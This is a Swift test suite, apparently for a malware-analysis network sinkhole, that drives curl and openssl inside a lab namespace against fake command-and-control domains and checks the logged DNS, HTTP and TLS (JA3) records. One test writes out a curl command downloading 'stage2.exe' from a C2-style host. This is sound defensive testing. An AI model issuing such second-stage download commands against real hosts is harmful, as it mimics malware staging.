#if os(Linux)
import Foundation
import Glibc
import PetriModel
@testable import PetriNet
import Testing

/// Stock clients (curl, openssl) run inside the lab's netns with nsenter: real resolvers, real
/// ClientHellos, real HTTP stacks against the services.
@Suite(.serialized) struct RealClientTests {
    func inNetns(_ lab: Lab, _ args: [String]) -> (status: Int32, out: String) {
        run("/usr/bin/nsenter", ["--net=/proc/\(getpid())/fd/\(lab.ns.fd)", "--"] + args)
    }

    @Test func curlResolvesAndDownloadsThroughTheSinkhole() async throws {
        guard Prereq.root, Prereq.nft,
              Prereq.require("curl", FileManager.default.isExecutableFile(atPath: "/usr/bin/curl")),
              Prereq.require("nsenter", FileManager.default.isExecutableFile(atPath: "/usr/bin/nsenter")) else { return }
        let lab = try await Lab()
        // curl resolves through the host's resolv.conf: whatever nameserver it names is routed to lo, where petri answers.
        let page = inNetns(lab, ["/usr/bin/curl", "-s", "-m", "5", "-A", "petri-real", "http://real.c2.example/index.html?x=1"])
        #expect(page.status == 0 && page.out.contains("It works!"))
        let out = lab.dir.appendingPathComponent("dl.bin")
        let dl = inNetns(lab, ["/usr/bin/curl", "-s", "-m", "5", "-o", out.path, "http://real.c2.example/files/stage2.exe"])
        #expect(dl.status == 0)
        #expect((try? Data(contentsOf: out)).map(Array.init) == HTTPResponder.builtinPayload)
        let s = await lab.net.stop()
        let q = try #require(s.dns.first { $0.name == "real.c2.example" && $0.type == "A" })
        let h = try #require(s.http.first { $0.path == "/index.html" })
        #expect(h.host == "real.c2.example" && h.headers["user-agent"] == "petri-real" && h.query == "x=1")
        #expect(s.connections.contains { $0.id == h.connection && $0.domain == "real.c2.example" && q.answers.contains($0.ip) })
        #expect(s.http.contains { $0.path == "/files/stage2.exe" && $0.response == "payload:builtin" })
    }

    @Test func opensslClientHelloIsFingerprinted() async throws {
        guard Prereq.root, Prereq.nft,
              Prereq.require("openssl", FileManager.default.isExecutableFile(atPath: "/usr/bin/openssl")) else { return }
        let lab = try await Lab()
        _ = inNetns(lab, ["/usr/bin/openssl", "s_client", "-connect", "198.51.100.44:8443", "-servername", "tls.c2.example", "-alpn", "h2,http/1.1"])
        let s = await lab.net.stop()
        let t = try #require(s.tls.first)
        #expect(t.sni == "tls.c2.example" && t.alpn == ["h2", "http/1.1"] && t.error == nil)
        #expect(t.ja3?.hasPrefix("771,") == true && t.ja3Hash?.count == 32)
        #expect(s.connections.contains { $0.id == t.connection && $0.port == 8443 && $0.service == "tls" })
    }
}
#endif
